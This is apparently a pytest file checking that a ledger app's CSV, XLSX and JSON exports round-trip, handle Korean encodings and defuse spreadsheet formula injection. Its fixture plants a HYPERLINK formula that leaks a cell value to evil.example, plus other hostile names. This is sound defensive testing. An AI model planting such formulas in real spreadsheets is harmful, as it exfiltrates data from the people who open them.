"""Every table and view exports in every format and reads back; exports are safe to open
(formula injection defused, control characters never crash, any member name makes a valid
sheet title); CP949 for Korean Excel; a sheet that fills up continues on the next; the month
workbook has its sheets and charts and its numbers equal the statements."""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook
from sqlalchemy import text
from sqlalchemy.orm import Session

from ledger.alerts.service import check_balances
from ledger.closing.service import close_month
from ledger.members.service import MemberInput, add_member
from ledger.pending.service import track_code
from ledger.popbill import PopbillClient
from ledger.reconcile.service import reconcile
from ledger.reports import export as exporting
from ledger.reports.statement import monthly_statement, previous_month
from ledger.simulator import Simulator
from ledger.sync.service import sync_all
from tests.conftest import client_settings, empty_ledger, small_config
from tests.reports.test_reports import ledger_cli

INJECTED, SLASHED = "1234567890", "2208112345"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_TITLE = "(주)A/S센터: [본점]*? \x07끝'"
USER_FORMULA = "@SUM(1+1)\x01-"


@pytest.fixture(scope="module")
def ledger_with_everything(engine):
    """A small ledger with rows in every exportable table and hostile names in it."""
    with Simulator(small_config(history_days=70, usage_per_day=5, settle_after_polls=None)) as sim:
        with Session(engine) as session:
            for corp in (INJECTED, SLASHED):
                add_member(session, MemberInput(corp, name="임시"))
            session.commit()
        with engine.begin() as conn:  # names as they might arrive from any source, unvalidated
            conn.execute(text("UPDATE members SET name = :n WHERE corp_num = :c"), {"n": FORMULA, "c": INJECTED})
            conn.execute(text("UPDATE members SET name = :n WHERE corp_num = :c"), {"n": HOSTILE_TITLE, "c": SLASHED})
        form = {"settlecost": "55000", "settlername": "홍길동", "settleremail": "a@b.kr", "paymentname": "x"}
        deposit = sim.world.request_payment(INJECTED, form)
        refund = sim.world.request_refund(SLASHED, {"requestpoint": "1000", "accountbank": "국민", "accountnum": "1",
                                                    "accountname": "홍길동", "reason": "해지", "contactname": "홍길동",
                                                    "tel": "010"})  # fmt: skip
        sim.world.complete_refund(SLASHED, refund.refund_code)
        sim.world.drop_usage_row(INJECTED, 5)  # a discrepancy to export
        settings = dataclasses.replace(client_settings(sim), reconcile_max_sync_age=10**8)
        with PopbillClient(settings) as client:
            sync_all(engine, client, today=sim.world.today())
            sim.world.complete_payment(INJECTED, deposit.settle_code)
            sync_all(engine, client, today=sim.world.today())  # a state change
            check_balances(engine, client, settings)
        with Session(engine) as session:
            other = sim.world.request_payment(SLASHED, form)
            track_code(session, SLASHED, "settle", other.settle_code)
            session.commit()
        reconcile(engine, settings)
        month = previous_month(sim.world.today().replace(day=1))
        close_month(engine, month, "회계팀", today=sim.world.today())
        with engine.begin() as conn:
            conn.execute(text("UPDATE usages SET user_name = :n WHERE id = (SELECT min(id) FROM usages)"),
                         {"n": USER_FORMULA})  # fmt: skip
    yield engine, month
    empty_ledger(engine)


def count(engine, name: str) -> int:
    with engine.connect() as conn:
        return conn.execute(text(f"SELECT count(*) FROM {name}")).scalar()


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_every_table_exports_in_every_format_and_reads_back(ledger_with_everything, tmp_path, fmt):
    engine, _ = ledger_with_everything
    for name in exporting.EXPORTABLE:
        expected = count(engine, name)
        assert expected > 0, name  # every table really has rows here
        path = tmp_path / f"{name}.{fmt}"
        with exporting.rows_of(engine, name, None, None) as (columns, rows):
            written = exporting.write_file(columns, rows, fmt, "ko", path, name)
        assert written == expected, name
        if fmt == "csv":
            parsed = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))))
            assert len(parsed) == expected + 1 and len(parsed[0]) == len(columns), name
        elif fmt == "json":
            parsed = json.loads(path.read_text(encoding="utf-8"))
            assert len(parsed) == expected and set(parsed[0]) == set(columns), name
        else:
            sheet = load_workbook(path, read_only=True).active
            assert sum(1 for _ in sheet.iter_rows(values_only=True)) == expected + 1, name


def test_history_rows_export_their_uuid_key_and_service_name(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    columns, rows = exporting.fetch(engine, "usages", None, None)
    path = tmp_path / "u.json"
    exporting.write_file(columns, rows, "json", "en", path, "usages")
    parsed = json.loads(path.read_text())
    keys = [r["row_key"] for r in parsed]
    assert len(keys) == len(rows) and all(len(k) == 36 and k.count("-") == 4 for k in keys)
    services = {r["item_code"]: r["service"] for r in parsed}
    assert services[110] == "전자세금계산서" and services[0] is None  # a charge is no service


def exported_csv(columns, rows) -> str:
    """CSV as `ledger export` writes it to stdout."""
    out = io.BytesIO()
    exporting.write_stream(columns, rows, "csv", "en", out)
    return out.getvalue().decode("utf-8")


def _sheet_xml(path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def test_formula_injection_is_defused_in_csv_and_xlsx(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    columns, rows = exporting.fetch(engine, "v_monthly_statements", None, None)
    parsed = list(csv.DictReader(io.StringIO(exported_csv(columns, rows))))
    names = {r["corp_num"]: r["member_name"] for r in parsed}
    assert names[INJECTED] == "'" + FORMULA  # text, with the apostrophe OWASP prescribes
    columns, rows = exporting.fetch(engine, "usages", None, None)
    users = [r["user_name"] for r in csv.DictReader(io.StringIO(exported_csv(columns, rows)))]
    assert "'" + USER_FORMULA in users  # '@' starts a formula too; the control character is kept in CSV

    for name in ("v_monthly_statements", "usages"):
        path = tmp_path / f"{name}.xlsx"
        with exporting.rows_of(engine, name, None, None) as (columns, rows):
            exporting.write_file(columns, rows, "xlsx", "en", path, name)
        xml = _sheet_xml(path)
        assert "<f>" not in xml and "<f " not in xml  # no formula anywhere in the workbook
        values = [c.value for row in load_workbook(path).active.iter_rows() for c in row]
        assert FORMULA in values if name == "v_monthly_statements" else USER_FORMULA.replace("\x01", "\ufffd") in values

    statement = tmp_path / "s.xlsx"
    result = ledger_cli("report", "statement", "--member", INJECTED, "--month", f"{month:%Y-%m}", "--format", "xlsx",
                        "--out", str(statement))  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "<f>" not in _sheet_xml(statement)


def test_any_member_name_makes_a_sheet_title(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    out = tmp_path / "s.xlsx"
    result = ledger_cli("report", "statement", "--member", SLASHED, "--month", f"{month:%Y-%m}", "--format", "xlsx",
                        "--out", str(out))  # fmt: skip
    assert result.returncode == 0, result.stderr
    title = load_workbook(out).active.title
    assert len(title) <= 31 and not set(title) & set("[]:*?/\\") and title.startswith(SLASHED)
    assert exporting.safe_sheet_title("a" * 40, ["a" * 31]) == "a" * 27 + " (2)"
    assert exporting.safe_sheet_title("'''", []) == "Sheet"


def test_cp949_for_korean_excel_and_a_clear_refusal(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    out = tmp_path / "closes.csv"
    result = ledger_cli("export", "month_closes", "--encoding", "cp949", "--lang", "ko", "--out", str(out))
    assert result.returncode == 0, result.stderr
    body = out.read_bytes()
    assert not body.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(body.decode("cp949"))))
    assert rows[0][0] == "사업자번호" and any("회계팀" in r for r in rows[1:])
    out = tmp_path / "statements.csv"
    assert ledger_cli("export", "v_monthly_statements", "--encoding", "cp949", "--out", str(out)).returncode == 0
    names = {r["corp_num"]: r["member_name"] for r in csv.DictReader(io.StringIO(out.read_bytes().decode("cp949")))}
    assert names[SLASHED] == HOSTILE_TITLE  # Korean, and a control character, as stored
    with engine.begin() as conn:
        conn.execute(text("UPDATE usages SET user_name = '김🙂' WHERE id = (SELECT max(id) FROM usages)"))
    try:
        out = tmp_path / "usages.csv"
        result = ledger_cli("export", "usages", "--encoding", "cp949", "--out", str(out))
        assert result.returncode != 0 and "--encoding" in result.stderr and "row " in result.stderr, result.stderr
        assert not out.exists()  # nothing half-written
    finally:
        with engine.begin() as conn:
            conn.execute(text("UPDATE usages SET user_name = '김' WHERE id = (SELECT max(id) FROM usages)"))


def test_a_full_sheet_continues_on_the_next(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    path = tmp_path / "u.xlsx"
    with exporting.rows_of(engine, "usages", None, None) as (columns, rows):
        written = exporting.write_xlsx(columns, rows, "en", path, "usages", rows_per_sheet=100)
    book = load_workbook(path, read_only=True)
    assert book.sheetnames[:2] == ["usages", "usages (2)"] and len(book.sheetnames) == -(-written // 99)
    assert sum(sum(1 for _ in s.iter_rows()) - 1 for s in book.worksheets) == written == count(engine, "usages")
    assert all(next(sheet.iter_rows(max_row=1, values_only=True))[0] == "corp_num" for sheet in book.worksheets)


def test_whole_numbers_have_no_trailing_dot(ledger_with_everything, tmp_path):
    engine, _ = ledger_with_everything
    path = tmp_path / "d.xlsx"
    with exporting.rows_of(engine, "v_deposits", None, None) as (columns, rows):
        exporting.write_file(columns, rows, "xlsx", "en", path, "deposits")
    sheet = load_workbook(path).active
    won = [row[columns.index("won")] for row in sheet.iter_rows(min_row=2)]
    assert won and all(c.number_format == "#,##0" for c in won if c.value == int(c.value))


def test_month_workbook_sheets_charts_and_numbers(ledger_with_everything, tmp_path):
    engine, month = ledger_with_everything
    out = tmp_path / "month.xlsx"
    result = ledger_cli("report", "month", "--month", f"{month:%Y-%m}", "--out", str(out), "--lang", "ko")
    assert result.returncode == 0, result.stderr
    book = load_workbook(out)
    assert book.sheetnames[0] == "요약" and len(book.sheetnames) == 3
    summary = list(book["요약"].iter_rows(min_row=2, values_only=True))
    assert [r[0] for r in summary] == [INJECTED, SLASHED]
    for row, sheet in zip(summary, book.worksheets[1:], strict=True):
        statement = monthly_statement(engine, row[0], month)
        assert Decimal(str(row[2])) == statement.amount("opening_balance")
        assert Decimal(str(row[3])) == (statement.won("deposits") or 0)
        assert Decimal(str(row[6])) == statement.amount("usage_points")
        assert Decimal(str(row[8])) == statement.amount("closing_balance")
        assert row[10] == "마감"  # the month was closed
        charts = sheet._charts
        assert len(charts) == 2 and {type(c).__name__ for c in charts} == {"LineChart", "BarChart"}
        days = [r for r in sheet.iter_rows(min_row=3, min_col=7, max_col=8, values_only=True) if r[0] is not None]
        assert len(days) == (month.replace(day=28) + dt.timedelta(days=4)).replace(day=1).__sub__(month).days
        assert Decimal(str(days[-1][1])) == statement.amount("closing_balance")
    assert book["요약"].cell(row=2, column=2).data_type == "s"  # the injected name is text here too
